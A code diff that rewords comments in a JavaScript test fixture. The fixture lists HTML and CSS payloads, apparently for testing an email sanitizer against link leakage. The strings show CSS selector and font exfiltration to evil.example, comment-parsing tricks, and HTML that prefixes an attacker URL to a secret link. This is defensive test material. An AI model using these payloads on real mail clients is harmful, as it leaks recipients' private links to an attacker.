@@ -86,15 +86,16 @@ const ELSEWHERE = [
   `<style>@media all { a[href*="/a"] { background: url(https://evil.example/a) } }</style>`,
   `<style>@media all { a[\\68 ref*="/a"] { background: url(https://evil.example/a) } }</style>`,
   `<style>@font-face { font-family: x; src: url(https://evil.example/a); unicode-range: U+61 }</style>`,
-  // What looks like a comment is part of a text.
+  // Comment signs in a string are part of a text.
   `<style>@media screen { .x{content:"/*"} a[href*="/a"]{background:url(https://evil.example/a)} .y{content:"*/"} }</style>`,
   `<style>@media screen { .x{background:url(/*)} a[/*]*/href*="/a"]{background:url(https://evil.example/a)} .y{background:url(*/)} }</style>`,
-  // The plain text of the mail has nothing for these, so that the link would go on with the address before it.
+  // The plain text of the mail has nothing for these, so that the link would go on with the address before
+  // it.
   `<p>https://evil.example/<img alt="" src="https://a.example/c.png" width="1">${URL}</p>`,
   `<p>https://evil.example/?<ruby>${URL}</ruby></p>`,
   `<p><a href="https://evil.example/?l="></a>${URL}</p>`,
   `<p>https://evil.example/?l=<span style="display:none"> </span>${URL}</p>`,
-  // It has the address of a link after its words, and nothing between that and the next.
+  // The first link has its address after its words, with nothing between it and the next link.
   `<p><a href="https://evil.example/?l=">Help</a>${URL}</p>`,
   `<p><a href="https://evil.example/?l=">Help</a><a href="${URL}"></a></p>`,
   // Signs that names of hosts and addresses may be written with.
